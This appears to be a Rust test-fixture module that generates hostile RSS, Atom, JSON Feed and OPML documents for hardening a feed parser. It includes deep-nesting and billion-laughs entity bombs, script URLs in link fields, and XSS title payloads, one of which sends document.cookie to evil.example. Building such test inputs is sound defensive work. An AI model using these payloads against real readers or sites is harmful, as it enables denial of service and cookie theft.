//! Hostile feeds, one per class of attack. Each is a complete document a
//! publisher could serve; sizes are in bytes.

use crate::{fill, BAD_URLS};

/// An RSS item whose title nests `<a>` elements `bytes / 7` deep, all
/// closed: the input that overflowed the stack.
pub fn deep_nesting(bytes: usize) -> String {
    let n = bytes / 7;
    format!(
        "<?xml version=\"1.0\"?><rss version=\"2.0\"><channel><title>Deep</title><item><title>{}x{}</title>\
         <link>deep.html</link></item></channel></rss>",
        "<a>".repeat(n),
        "</a>".repeat(n)
    )
}

/// Nesting that is never closed, as a truncated or malicious feed ends.
pub fn unclosed_nesting(bytes: usize) -> String {
    format!("<rss><channel><item><title>{}", fill("<a><b>", bytes))
}

/// Internal entities `levels` deep, each referring to the one below
/// `refs` times: 10 levels of 10 expand to 10^10 copies ("billion laughs").
pub fn billion_laughs(levels: usize, refs: usize) -> String {
    let mut dtd = String::from("<!DOCTYPE rss [<!ENTITY lol0 \"lol\">");
    for i in 1..=levels {
        let body = format!("&lol{};", i - 1).repeat(refs);
        dtd.push_str(&format!("<!ENTITY lol{i} \"{body}\">"));
    }
    format!(
        "<?xml version=\"1.0\"?>{dtd}]><rss version=\"2.0\"><channel><title>&lol{levels};</title><item>\
         <title>&lol{levels};</title><link>laughs.html</link></item></channel></rss>"
    )
}

/// One large entity referred to many times: quadratic blowup without
/// nesting.
pub fn quadratic_blowup(entity_bytes: usize, refs: usize) -> String {
    format!(
        "<!DOCTYPE rss [<!ENTITY big \"{}\">]><rss version=\"2.0\"><channel><item><title>{}</title>\
         <link>blowup.html</link></item></channel></rss>",
        "x".repeat(entity_bytes),
        "&big;".repeat(refs)
    )
}

/// An item element with attributes adding up to about `bytes`.
pub fn many_attributes(bytes: usize) -> String {
    let attrs = crate::attributes(bytes, "\"");
    format!(
        "<rss version=\"2.0\"><channel><item{attrs}><title>Attributes</title>\
         <link>attrs.html</link></item></channel></rss>"
    )
}

/// A title that is one token of `bytes` letters, and a link path as long.
pub fn long_token(bytes: usize) -> String {
    format!(
        "<rss version=\"2.0\"><channel><item><title>{}</title><link>long/{}</link>\
         <description>{}</description></item></channel></rss>",
        "A".repeat(bytes / 2),
        "b".repeat(bytes / 4),
        "c".repeat(bytes / 4)
    )
}

/// `bytes` of tiny empty elements inside one item: the most nodes per byte.
pub fn many_elements(bytes: usize) -> String {
    format!(
        "<rss version=\"2.0\"><channel><item><title>Elements</title><link>elements.html</link>{}\
         </item></channel></rss>",
        fill("<i/>", bytes)
    )
}

/// A valid RSS 2.0 feed of `n` items linking to pages under `origin`,
/// newest first, one minute apart from `newest` (unix seconds).
pub fn many_items(n: usize, origin: &str, newest: i64) -> String {
    let mut items = String::with_capacity(n * 300);
    for i in 0..n {
        let t = newest - 60 * i as i64;
        items.push_str(&format!(
            "<item><title>Item {i} of the archive</title><link>{origin}/item/{i}.html</link><guid>item-{i}</guid>\
             <pubDate>{}</pubDate><description>Summary of item {i}.</description></item>\n",
            rfc822(t)
        ));
    }
    format!("<?xml version=\"1.0\"?><rss version=\"2.0\"><channel><title>Archive</title><link>{origin}/</link>{items}</channel></rss>")
}

/// An RFC 822 date for unix seconds, in UTC.
pub fn rfc822(unix: i64) -> String {
    const DAYS: [&str; 7] = ["Thu", "Fri", "Sat", "Sun", "Mon", "Tue", "Wed"];
    const MONTHS: [&str; 12] = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];
    let days = unix.div_euclid(86_400);
    let secs = unix.rem_euclid(86_400);
    // Civil-from-days (Howard Hinnant's algorithm).
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    let y = yoe + era * 400 + i64::from(m <= 2);
    format!(
        "{}, {:02} {} {} {:02}:{:02}:{:02} +0000",
        DAYS[days.rem_euclid(7) as usize],
        d,
        MONTHS[(m - 1) as usize],
        y,
        secs / 3600,
        secs / 60 % 60,
        secs % 60
    )
}

/// An RSS feed putting every bad URL in every URL field: item links, guids
/// that claim to be permalinks, enclosures, media content and thumbnails,
/// the channel's link and image, and Atom links. One good item (linking to
/// `origin`) is among them.
pub fn script_urls_rss(origin: &str) -> String {
    let mut items = String::new();
    for (i, bad) in BAD_URLS.iter().enumerate() {
        let bad = xml_escape(bad);
        items.push_str(&format!(
            "<item><title>Script link {i}</title><link>{bad}</link><guid isPermaLink=\"true\">{bad}</guid>\
             <enclosure url=\"{bad}\" type=\"image/png\" length=\"1\"/><media:content url=\"{bad}\" medium=\"image\"/>\
             <media:thumbnail url=\"{bad}\"/><atom:link rel=\"alternate\" href=\"{bad}\"/>\
             <description>&lt;a href=\"{bad}\"&gt;click&lt;/a&gt; &lt;img src=\"{bad}\"&gt;</description></item>"
        ));
        items.push_str(&format!(
            "<item><title>Script image {i}</title><link>{origin}/ok/{i}.html</link><guid>ok-{i}</guid>\
             <enclosure url=\"{bad}\" type=\"image/png\" length=\"1\"/><media:thumbnail url=\"{bad}\"/>\
             <description>A good link with a bad image.</description></item>"
        ));
    }
    format!(
        "<?xml version=\"1.0\"?><rss version=\"2.0\" xmlns:media=\"http://search.yahoo.com/mrss/\" \
         xmlns:atom=\"http://www.w3.org/2005/Atom\"><channel><title>Scripts</title><link>{}</link>\
         <image><url>{}</url><title>x</title><link>{}</link></image>{items}</channel></rss>",
        xml_escape(BAD_URLS[0]),
        xml_escape(BAD_URLS[4]),
        xml_escape(BAD_URLS[0])
    )
}

/// The same attack as an Atom feed (links are attributes there, and
/// `xml:base` may itself be a script URL).
pub fn script_urls_atom(origin: &str) -> String {
    let mut entries = String::new();
    for (i, bad) in BAD_URLS.iter().enumerate() {
        let bad = xml_escape(bad);
        entries.push_str(&format!(
            "<entry><title>Atom script {i}</title><id>urn:x:{i}</id><updated>2025-06-28T00:00:00Z</updated>\
             <link rel=\"alternate\" href=\"{bad}\"/><link rel=\"enclosure\" href=\"{bad}\"/>\
             <content type=\"html\">&lt;a href=\"{bad}\"&gt;x&lt;/a&gt;</content></entry>\
             <entry xml:base=\"{bad}\"><title>Atom base {i}</title><id>urn:y:{i}</id>\
             <updated>2025-06-28T00:00:00Z</updated><link href=\"relative/{i}\"/></entry>"
        ));
    }
    format!(
        "<?xml version=\"1.0\"?><feed xmlns=\"http://www.w3.org/2005/Atom\"><title>Atom scripts</title>\
         <link href=\"{}\"/><id>urn:feed</id><updated>2025-06-28T00:00:00Z</updated>{entries}\
         <entry><title>Good</title><id>urn:good</id><updated>2025-06-28T00:00:00Z</updated>\
         <link href=\"{origin}/ok/atom.html\"/></entry></feed>",
        xml_escape(BAD_URLS[0])
    )
}

/// The same attack as a JSON Feed.
pub fn script_urls_json(origin: &str) -> String {
    let items: Vec<String> = BAD_URLS
        .iter()
        .enumerate()
        .map(|(i, bad)| {
            let bad = json_escape(bad);
            format!(
                "{{\"id\":\"j{i}\",\"url\":\"{bad}\",\"external_url\":\"{bad}\",\"title\":\"JSON script {i}\",\
                 \"image\":\"{bad}\",\"banner_image\":\"{bad}\",\"content_html\":\"<a href=\\\"{bad}\\\">x</a>\",\
                 \"attachments\":[{{\"url\":\"{bad}\",\"mime_type\":\"image/png\"}}]}}"
            )
        })
        .collect();
    format!(
        "{{\"version\":\"https://jsonfeed.org/version/1.1\",\"title\":\"JSON scripts\",\"home_page_url\":\"{}\",\
         \"icon\":\"{}\",\"items\":[{},{{\"id\":\"good\",\"url\":\"{origin}/ok/json.html\",\"title\":\"Good\"}}]}}",
        json_escape(BAD_URLS[0]),
        json_escape(BAD_URLS[4]),
        items.join(",")
    )
}

/// Titles and categories made of markup and code, escaped once and twice,
/// with one plain word each so that the item is still an article.
pub fn markup_titles(origin: &str) -> String {
    let titles = [
        "&lt;script&gt;fetch('https://evil.example/steal?c='+document.cookie)&lt;/script&gt; Harbour",
        "&amp;lt;script&amp;gt;alert(document.domain)&amp;lt;/script&amp;gt; Harbour",
        "&lt;img src=x onerror=alert(1)&gt; Harbour",
        "<![CDATA[<svg onload=alert(1)>]]> Harbour",
        "window.location='javascript:alert(1)'; Harbour",
    ];
    let items: String = titles
        .iter()
        .enumerate()
        .map(|(i, t)| {
            format!(
                "<item><title>{t}</title><link>{origin}/markup/{i}.html</link><guid>m{i}</guid>\
                 <category>&lt;script&gt;alert(1)&lt;/script&gt;</category><category>https://evil.example/</category>\
                 <description>Harbour works resumed on the quay. {t}</description></item>"
            )
        })
        .collect();
    format!("<?xml version=\"1.0\"?><rss version=\"2.0\"><channel><title>Markup</title><link>{origin}/</link>{items}</channel></rss>")
}

/// JSON nested `bytes / 2` deep.
pub fn json_deep(bytes: usize) -> String {
    let n = bytes / 2;
    format!("{{\"version\":\"https://jsonfeed.org/version/1\",\"items\":{}{}}}", "[".repeat(n), "]".repeat(n))
}

/// A JSON Feed whose items are `bytes / 2` tiny values.
pub fn json_many_values(bytes: usize) -> String {
    format!("{{\"version\":\"https://jsonfeed.org/version/1\",\"items\":[{}0]}}", fill("0,", bytes))
}

/// An OPML file of outlines nested `bytes / 10` deep.
pub fn opml_deep(bytes: usize) -> String {
    let n = bytes / 10;
    format!(
        "<opml version=\"2.0\"><body>{}<outline xmlUrl=\"feed.xml\"/>{}</body></opml>",
        "<outline>".repeat(n),
        "</outline>".repeat(n)
    )
}

fn xml_escape(s: &str) -> String {
    s.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;").replace('\t', "&#9;")
}

fn json_escape(s: &str) -> String {
    s.replace('\\', "\\\\").replace('"', "\\\"").replace('\t', "\\t")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rfc822_dates_are_correct() {
        assert_eq!(rfc822(0), "Thu, 01 Jan 1970 00:00:00 +0000");
        assert_eq!(rfc822(1_751_072_400), "Sat, 28 Jun 2025 01:00:00 +0000");
    }

    #[test]
    fn generated_documents_have_the_asked_size() {
        assert!(deep_nesting(4 << 20).len() >= 4 << 20);
        assert!(many_attributes(1 << 20).len() >= 1 << 20);
        assert!(billion_laughs(10, 10).len() < 2000);
    }
}
